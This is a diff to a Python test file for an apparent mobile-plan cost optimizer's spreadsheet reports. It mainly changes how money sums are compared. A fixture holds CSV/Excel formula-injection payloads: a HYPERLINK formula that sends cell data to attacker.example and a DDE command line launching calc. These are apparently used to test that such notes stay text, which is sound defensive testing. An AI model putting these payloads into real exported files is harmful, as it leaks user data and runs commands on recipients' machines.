@@ -11,7 +11,6 @@ from optimizer import reports
 from optimizer.reports import XLSX_MIME, plan_costs, report_email, report_write
 from tests.factories_results import session_with_results
 
-CENT = Decimal("0.01")
 EVIL_NOTES = {
     0: '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
     1: "+cmd|' /C calc'!A0",
@@ -29,7 +28,12 @@ def _reports_in_tmp(settings, tmp_path):
 
 
 def _money(value) -> Decimal:
-    return Decimal(str(value)).quantize(CENT)
+    """A cell's number back as the stored 4-place Decimal (floats of 4-place values round-trip through str)."""
+    return Decimal(str(value)).quantize(Decimal("0.0001"))
+
+
+def _sum(values) -> Decimal:
+    return sum((_money(v) for v in values), Decimal(0))
 
 
 def _sheet_rows(workbook, prefix: str) -> list[tuple]:
@@ -57,9 +61,9 @@ def test_m2m_report_sums_match_the_stored_totals_to_the_cent(provider_a):
     rows = _sheet_rows(wb, "Assignments")
     assert len(rows) == 51 == session.device_count
     assert [r[0] for r in rows] == sorted(r[0] for r in rows), "M2M: one row per SIM, by ICCID"
-    assert _money(sum(r[5] for r in rows)) == _money(session.current_cost)
-    assert _money(sum(r[6] for r in rows)) == _money(session.optimized_cost)
-    assert _money(sum(r[7] for r in rows)) == _money(session.savings)
+    assert _sum(r[5] for r in rows) == _money(session.current_cost)
+    assert _sum(r[6] for r in rows) == _money(session.optimized_cost)
+    assert _sum(r[7] for r in rows) == _money(session.savings)
     assert {r[8] for r in rows} == {"yes", "no"}
 
     groups = list(wb["Groups"].iter_rows(min_row=2, values_only=True))
@@ -67,7 +71,7 @@ def test_m2m_report_sums_match_the_stored_totals_to_the_cent(provider_a):
     assert total[0] == "Total" and total[4] == 51
     assert _money(total[5]) == _money(session.current_cost)
     assert _money(total[7]) == _money(session.optimized_cost)
-    assert _money(sum(g[7] for g in groups[:-1])) == _money(session.optimized_cost)
+    assert _sum(g[7] for g in groups[:-1]) == _money(session.optimized_cost)
 
     summary = _summary(wb)
     assert summary["Tenant"] == provider_a.tenant.name and summary["Carrier account"] == provider_a.name
@@ -102,7 +106,7 @@ def test_summary_has_a_bar_chart_of_cost_per_plan_before_and_after(provider_a):
     for c in costs:
         assert table[c.code][1] == c.sims_before and table[c.code][3] == c.sims_after
         assert _money(table[c.code][4]) == _money(c.cost_after)
-    assert _money(sum(c.cost_after for c in costs)) == _money(session.optimized_cost)
+    assert _sum(c.cost_after for c in costs) == _money(session.optimized_cost)
 
 
 def test_a_formula_looking_device_note_stays_text(provider_a):
@@ -142,7 +146,7 @@ def test_mobility_accounts_get_the_group_level_layout(provider_a):
     sims = [r for r in rows if r[1] and not str(r[0]).endswith("subtotal")]
     subtotals = [r for r in rows if str(r[0]).endswith("subtotal")]
     assert len(sims) == 12 and [s[0] for s in subtotals] == ["G1 subtotal", "G2 subtotal", "G3 subtotal"]
-    assert _money(sum(r[6] for r in sims)) == _money(session.optimized_cost)
+    assert _sum(r[6] for r in sims) == _money(session.optimized_cost)
     groups = {g.name: g for g in session.instances.get().comm_groups.all()}
     for sub in subtotals:
         group = groups[sub[0].removesuffix(" subtotal")]
@@ -161,7 +165,7 @@ def test_rows_beyond_the_sheet_limit_continue_on_the_next_sheet(provider_a, monk
     assert [wb[n].max_row for n in ("Assignments", "Assignments 2", "Assignments 3")] == [6, 6, 3]
     rows = _sheet_rows(wb, "Assignments")
     assert len(rows) == 12 and len({r[0] for r in rows}) == 12
-    assert _money(sum(r[6] for r in rows)) == _money(session.optimized_cost)
+    assert _sum(r[6] for r in rows) == _money(session.optimized_cost)
     assert all(next(wb[n].iter_rows(max_row=1, values_only=True))[0] == "ICCID" for n in wb.sheetnames[2:])
 
 
